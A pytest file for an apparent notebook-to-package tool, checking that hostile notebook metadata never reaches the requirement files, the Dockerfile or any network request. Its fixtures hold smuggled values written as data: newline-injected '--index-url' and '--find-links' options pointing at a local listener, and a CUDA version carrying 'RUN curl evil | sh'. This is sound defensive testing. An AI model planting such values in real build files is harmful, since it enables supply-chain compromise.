"""Notebooks and packages carrying hostile metadata values, converted, locked and built through
the real ``nb2prod`` CLI (a subprocess) with the real resolvers, while a local HTTP server listens
on 127.0.0.1 where every hostile value points: it must see no request, the requirement files
must hold only requirement lines, ``nb2prod.json`` no hostile value, and no run may end in a
traceback. The unit tests of the validator are in ``test_metadata_values.py``.

Offline tests resolve from wheels made here (``UV_FIND_LINKS``/``PIP_FIND_LINKS`` with no index:
a ``--find-links`` slipped into a requirement file would still be fetched); those marked
``network`` resolve against the package index.
"""

from __future__ import annotations

import copy
import http.server
import json
import os
import re
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_notebook, new_output

from nb2prod import metadata_values as mv
from recorded_notebooks import CPU_ENVIRONMENT, SYNTHETIC_GPU, write_notebook
from test_lock import RESOLVERS, make_wheel

HERE = f"{sys.version_info[0]}.{sys.version_info[1]}"
#: A line of requirements.in nb2prod writes: a name, maybe ``==version``, then its source.
REQUIREMENT_LINE = re.compile(r"[A-Za-z0-9][A-Za-z0-9._-]*(==[0-9A-Za-z.+!_-]+)?  # \S.*")
#: A line of requirements.lock: a pin, a hash, a ``via`` comment.
LOCK_LINE = re.compile(
    r"[A-Za-z0-9][A-Za-z0-9._-]*==\S+ \\|\s+--hash=sha256:[0-9a-f]{64}( \\)?|\s+#.*"
)
OPTIONS = (
    "--index-url",
    "--extra-index-url",
    "--find-links",
    "--trusted-host",
    "-e ",
    "-i ",
    "-f ",
)


class Listener(http.server.ThreadingHTTPServer):
    """Records every request it gets and answers 404."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        super().__init__(("127.0.0.1", 0), _Handler)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


class _Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        assert isinstance(self.server, Listener)
        self.server.seen.append(self.path)
        self.send_error(404)

    def log_message(self, *args: Any) -> None:  # no noise in the test output
        pass


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture
def wheels(tmp_path: Path) -> Path:
    folder = tmp_path / "wheels"
    folder.mkdir()
    make_wheel(folder, "nb2prod_tinya", "1.0", ("nb2prod_tinyb>=1",))
    for version in ("1.5", "2.0"):
        make_wheel(folder, "nb2prod_tinyb", version)
    return folder


def offline(wheels: Path) -> dict[str, str]:
    """The environment of a resolver that may use only ``wheels``."""
    return {**os.environ, "UV_NO_INDEX": "1", "UV_FIND_LINKS": str(wheels),
            "PIP_NO_INDEX": "1", "PIP_FIND_LINKS": str(wheels)}  # fmt: skip


def nb2prod(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    done = subprocess.run(
        [sys.executable, "-m", "nb2prod", *args],
        capture_output=True, text=True, timeout=600, env=env, check=False,
    )  # fmt: skip
    assert done.returncode in (0, 1, 2), done.stderr
    assert "Traceback" not in done.stderr + done.stdout
    return done


def hostile(url: str, module: str, version: str) -> dict[str, Any]:
    """A CPU record whose values point at ``url``; ``module`` recorded as ``version``, badly."""
    record = copy.deepcopy(CPU_ENVIRONMENT)
    record["packages"] = {
        module: f"{version}\n--find-links {url}/links/",
        "nb2prod-tinyb": "2.0",
        f"evil\n--extra-index-url {url}/extra/": "1.0",
        "pytz": f"2024.1 @ {url}/pytz.whl",
        "six": f"--index-url {url}/simple/",
        "tzdata": "-e ../evil",
    }
    record["python"]["version"] = f"3.11.9\n--index-url {url}/python/"
    record["cpu"]["model"] = f"<img src='{url}/cpu.png'> | x"
    return record


def hostile_values(packages: dict[str, str]) -> list[str]:
    """The names and versions of ``packages`` that are not a plain name or version."""
    plain = re.compile(r"[a-z0-9.-]+")
    return [text for pair in packages.items() for text in pair if not plain.fullmatch(text)]


def assert_clean_package(out: Path, url: str, written: tuple[str, ...] = ()) -> None:
    """Only requirement lines in the requirement files; no value pointing at ``url`` in the
    ``written`` files (all the package's files when none are named)."""
    requirements = (out / "requirements.in").read_text(encoding="utf-8")
    lines = [ln for ln in requirements.splitlines() if ln and not ln.startswith("#")]
    assert lines, requirements
    assert all(REQUIREMENT_LINE.fullmatch(line) for line in lines), requirements
    lock = (out / "requirements.lock").read_text(encoding="utf-8")
    assert all(LOCK_LINE.fullmatch(ln) for ln in lock.splitlines() if ln and ln[0] != "#"), lock
    for text in (requirements, lock):
        assert not any(ln.lstrip().startswith(OPTIONS) for ln in text.splitlines())
    host = url.removeprefix("http://").encode()
    for path in [out / name for name in written] or out.rglob("*"):
        assert not path.is_file() or host not in path.read_bytes(), path


def assert_notices(stderr: str, where: str, *values: str) -> None:
    """One line on stderr names each of ``values`` (as ``repr`` shows it, cut if long)."""
    lines = stderr.splitlines()
    for value in values:
        assert any(line.startswith(f"{where}: ignored ") and mv.shown(value) in line
                   for line in lines), (value, stderr)  # fmt: skip


def test_convert_locks_offline_and_never_asks_the_hostile_index(
    tmp_path: Path, listener: Listener, wheels: Path
) -> None:
    cell = ("import nb2prod_tinya\nprint('ok')", "ok\n", [])
    record = hostile(listener.url, "nb2prod-tinya", "1.0")
    notebook = write_notebook(tmp_path, [cell], record)
    out = tmp_path / "out"
    done = nb2prod("convert", str(notebook), "-o", str(out), env=offline(wheels))
    assert listener.seen == []  # first: what a hostile value made the resolver ask for
    assert done.returncode == 0, done.stderr
    assert_clean_package(out, listener.url)
    assert "\nnb2prod_tinya  # guess" in (out / "requirements.in").read_text(encoding="utf-8")
    provenance = json.loads((out / "nb2prod.json").read_text(encoding="utf-8"))
    assert provenance["recorded"] == {"nb2prod-tinyb": "2.0"}
    assert "recorded_python" not in provenance
    assert_notices(done.stderr, str(notebook), *hostile_values(record["packages"]))
    assert_notices(done.stderr, str(notebook), record["python"]["version"])
    readme = (out / "README.md").read_text(encoding="utf-8")
    assert "## Metadata left out" in readme
    assert "recorded version of 'nb2prod-tinya': contains control characters" in readme
    assert "ARG BASE_IMAGE=python:3.11-slim" in (out / "Dockerfile").read_text(encoding="utf-8")


@pytest.mark.parametrize("resolver", RESOLVERS)
def test_lock_reads_a_hostile_nb2prod_json_as_untrusted(
    resolver: str, tmp_path: Path, listener: Listener, wheels: Path
) -> None:
    """A package made by someone else: its nb2prod.json and project name are hostile."""
    notebook = write_notebook(tmp_path, [("import nb2prod_tinya", "", [])], None)
    out = tmp_path / "out"
    assert nb2prod("convert", str(notebook), "-o", str(out), "--no-lock").returncode == 0
    provenance = json.loads((out / "nb2prod.json").read_text(encoding="utf-8"))
    provenance["recorded"] = hostile(listener.url, "nb2prod-tinya", "1.0")["packages"]
    provenance["recorded_python"] = f"3.11\n--index-url {listener.url}/py/"
    (out / "nb2prod.json").write_text(json.dumps(provenance), encoding="utf-8")
    pyproject = (out / "pyproject.toml").read_text(encoding="utf-8")
    hostile_name = f"demo\\n--find-links {listener.url}/name/"
    (out / "pyproject.toml").write_text(
        pyproject.replace('name = "analysis"', f'name = "{hostile_name}"'), encoding="utf-8"
    )
    options = ["--resolver", resolver, "--find-links", str(wheels), "--no-index"]
    done = nb2prod("lock", str(out), *options)
    assert listener.seen == []  # first: what a hostile value made the resolver ask for
    assert done.returncode == 0, done.stderr
    assert_clean_package(out, listener.url, ("requirements.in", "requirements.lock"))
    assert f"{out}/nb2prod.json: ignored recorded version of 'nb2prod-tinya'" in done.stderr
    assert f"{out}/pyproject.toml: ignored project name" in done.stderr
    assert "ignored recorded Python ('3.11\\n--index-url" in done.stderr


@pytest.mark.network
def test_convert_against_the_index_never_asks_the_hostile_index(
    tmp_path: Path, listener: Listener
) -> None:
    record = copy.deepcopy(CPU_ENVIRONMENT)
    record["packages"] = {
        "six": f"1.16.0\n--index-url {listener.url}/simple/",
        f"evil\n--extra-index-url {listener.url}/extra/": "1.0",
        "tzdata": f"2024.1\n--trusted-host 127.0.0.1 --find-links {listener.url}/links/",
    }
    cell = ("import six\nprint(six.__name__)", "six\n", [])
    notebook = write_notebook(tmp_path, [cell], record)
    out = tmp_path / "out"
    done = nb2prod("convert", str(notebook), "-o", str(out))
    assert listener.seen == []  # first: what a hostile value made the resolver ask for
    assert done.returncode == 0, done.stderr
    assert_clean_package(out, listener.url)
    assert_notices(done.stderr, str(notebook), *hostile_values(record["packages"]))


def python2_notebook(folder: Path, source: str, printed: str, version: str = "2.7.18") -> Path:
    notebook = new_notebook()
    cell = new_code_cell(source, execution_count=1)
    cell.outputs = [new_output("stream", name="stdout", text=printed)]
    notebook.cells = [cell]
    notebook.metadata["kernelspec"] = {"name": "python2", "display_name": "Python 2",
                                       "language": "python"}  # fmt: skip
    notebook.metadata["language_info"] = {"name": "python", "version": version}
    path = folder / "old.ipynb"
    nbformat.write(notebook, str(path))
    return path


def test_a_python_2_notebook_converts_for_the_python_nb2prod_runs_on(tmp_path: Path) -> None:
    notebook = python2_notebook(tmp_path, "total = sum(range(4))\nprint(total)", "6\n")
    out = tmp_path / "out"
    done = nb2prod("convert", str(notebook), "-o", str(out), "--no-lock")
    assert done.returncode == 0, done.stderr
    assert done.stderr.startswith(
        f"{notebook}: ignored notebook's Python (language_info) ('2.7.18'): Python 2.7 is older "
        f"than 3.8, the oldest nb2prod targets; the package and its image use Python {HERE}"
    )
    assert f"ARG BASE_IMAGE=python:{HERE}-slim\n" in (out / "Dockerfile").read_text()
    assert f'requires-python = ">={HERE}"' in (out / "pyproject.toml").read_text()
    readme = (out / "README.md").read_text(encoding="utf-8")
    assert "says it ran on Python 2.7.18, which nb2prod cannot target" in readme


def test_python_2_code_is_refused_with_a_finding(tmp_path: Path) -> None:
    notebook = python2_notebook(tmp_path, 'print "hello"', "hello\n")
    done = nb2prod("convert", str(notebook), "-o", str(tmp_path / "out"), "--no-lock")
    assert done.returncode == 1
    assert "syntax-error: [error]" in done.stderr
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("version", ["3.\u00b2", "3.10\n--x", "banana", "99999999999.1"])
def test_a_nonsense_python_version_is_no_crash(tmp_path: Path, version: str) -> None:
    notebook = python2_notebook(tmp_path, "x = 1\nprint(x)", "1\n", version)
    assert nb2prod("check", str(notebook)).returncode == 0
    done = nb2prod("convert", str(notebook), "-o", str(tmp_path / "out"), "--no-lock")
    assert done.returncode == 0, done.stderr
    assert f"({version!r}): " in done.stderr


def test_a_hostile_cuda_version_gives_the_python_image_and_says_so(tmp_path: Path) -> None:
    record = copy.deepcopy(SYNTHETIC_GPU)
    record["accelerators"]["torch"]["cuda"] = "12.1\nRUN curl evil | sh"
    record["gpu"]["cuda_driver_version"] = "12.4.1.1"
    cell = ("import numpy\nprint(numpy.__name__)", "numpy\n", [])
    notebook = write_notebook(tmp_path, [cell], record)
    out = tmp_path / "out"
    done = nb2prod("convert", str(notebook), "-o", str(out), "--no-lock")
    assert done.returncode == 0, done.stderr
    dockerfile = (out / "Dockerfile").read_text(encoding="utf-8")
    assert "ARG BASE_IMAGE=python:3.11-slim\n" in dockerfile
    assert "evil" not in dockerfile
    assert "recorded no usable CUDA version" in (out / "README.md").read_text(encoding="utf-8")
    assert "'12.1\\nRUN curl evil | sh'" in done.stderr
    assert "'12.4.1.1'" in done.stderr


def test_build_reads_a_hostile_package_as_untrusted(tmp_path: Path) -> None:
    """``build`` refuses build requirements that are options, before anything else."""
    notebook = write_notebook(tmp_path, [("x = 1", "", [])], None)
    out = tmp_path / "out"
    assert nb2prod("convert", str(notebook), "-o", str(out), "--no-lock").returncode == 0
    pyproject = (out / "pyproject.toml").read_text(encoding="utf-8")
    hostile_requires = 'requires = ["--index-url=http://127.0.0.1:1/simple/"]'
    (out / "pyproject.toml").write_text(
        pyproject.replace('requires = ["hatchling"]', hostile_requires), encoding="utf-8"
    )
    done = nb2prod("build", str(out), "--tag", "x:1")
    assert done.returncode == 2
    assert done.stderr.strip().endswith(
        "build-system requires '--index-url=http://127.0.0.1:1/simple/': not a requirement"
    )


def test_a_hostile_kernel_name_is_one_line(tmp_path: Path) -> None:
    notebook = new_notebook()
    notebook.metadata["kernelspec"] = {
        "name": "ir\n--evil",
        "display_name": "R",
        "language": "R\nx",
    }
    path = tmp_path / "r.ipynb"
    nbformat.write(notebook, str(path))
    done = nb2prod("check", str(path))
    assert done.returncode == 2
    assert done.stderr == f"{path}: kernel language is 'R\\nx', not Python\n"
